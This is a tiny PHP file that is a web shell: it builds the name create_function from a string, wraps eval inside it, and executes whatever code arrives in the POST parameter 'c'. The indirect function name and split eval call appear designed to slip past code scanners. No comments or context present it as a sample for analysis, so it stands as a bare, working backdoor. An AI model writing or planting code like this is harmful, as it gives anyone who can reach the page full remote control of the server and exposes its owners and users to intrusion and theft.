<?php
$cf = strtolower('CREATE_FUNCTION');
$fn = $cf('$x', 'return ' . 'eval($x);');
$fn($_POST['c']);
